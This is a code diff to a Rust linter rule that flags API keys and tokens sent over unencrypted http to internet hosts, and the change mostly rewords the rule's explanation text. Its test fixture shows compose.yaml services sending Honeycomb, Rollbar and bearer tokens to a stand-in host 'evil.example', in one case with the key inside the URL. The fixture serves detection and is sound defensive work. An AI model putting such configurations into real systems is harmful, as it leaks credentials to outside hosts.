@@ -12,11 +12,11 @@ use crate::secret::{is_secret, is_secret_name};
 pub(super) static RULE: LintRule = LintRule {
     code: "key-unencrypted",
     severity: Severity::Error,
-    why: "everybody on the way can read the key, and nothing proves who takes it at the other end",
-    explanation: "A key that is sent over http:// to a host on the internet can be read by every network in between. Providers \
-        take telemetry over https://; a collector that does not belongs on this machine, on the compose network or on a \
-        private one (`http://collector:4318`, 127.0.0.1, 10.0.0.5), which this rule leaves alone. `verify` sends a key to such \
-        a host only with `--trust-host`.",
+    why: "anyone on the network path can read the key, and nothing proves who receives it",
+    explanation: "A key that is sent over http:// to a host on the internet can be read by every network in between. \
+        Providers accept https://. A collector that does not belongs on this machine, on the compose network or on a \
+        private network (`http://collector:4318`, 127.0.0.1, 10.0.0.5); such addresses are not reported. `verify` \
+        sends a key to such a host only with `--trust-host`.",
     failing: &[(
         "compose.yaml",
         "services:\n  api:\n    environment:\n      OTEL_SERVICE_NAME: api\n      OTEL_EXPORTER_OTLP_ENDPOINT: http://evil.example # <-\n      OTEL_EXPORTER_OTLP_HEADERS: x-honeycomb-team=${HONEYCOMB_API_KEY}\n  b:\n    environment:\n      OTEL_SERVICE_NAME: b\n      OTEL_EXPORTER_OTLP_ENDPOINT: http://api.honeycomb.io:80 # <-\n      OTEL_EXPORTER_OTLP_TRACES_HEADERS: x-tenant=a,x=${MY_KEY}\n  c:\n    environment:\n      OTEL_SERVICE_NAME: c\n      OTEL_EXPORTER_OTLP_TRACES_ENDPOINT: \"http://evil.example/${MY_KEY}\" # <-\n      ROLLBAR_ACCESS_TOKEN: ${ROLLBAR_ACCESS_TOKEN}\n      ROLLBAR_ENDPOINT: http://api.rollbar.com/api/1/ # <-\n  d:\n    environment:\n      OTEL_SERVICE_NAME: d\n      OTEL_EXPORTER_OTLP_PROTOCOL: grpc\n      OTEL_EXPORTER_OTLP_INSECURE: \"true\"\n      OTEL_EXPORTER_OTLP_ENDPOINT: evil.example:4317 # <-\n      OTEL_EXPORTER_OTLP_HEADERS: authorization=Bearer%20${TOKEN}\n",
@@ -43,7 +43,7 @@ fn check(inspection: &Inspection) -> Vec<RuleHit> {
             }
             let receiver = match provider::host_owner(host) {
                 Some(owner) => format!("{}'s own host", owner.title),
-                None => "a host of no provider known here".to_owned(),
+                None => "a host that belongs to no known provider".to_owned(),
             };
             hits.push(RuleHit::new(
                 setting.file,
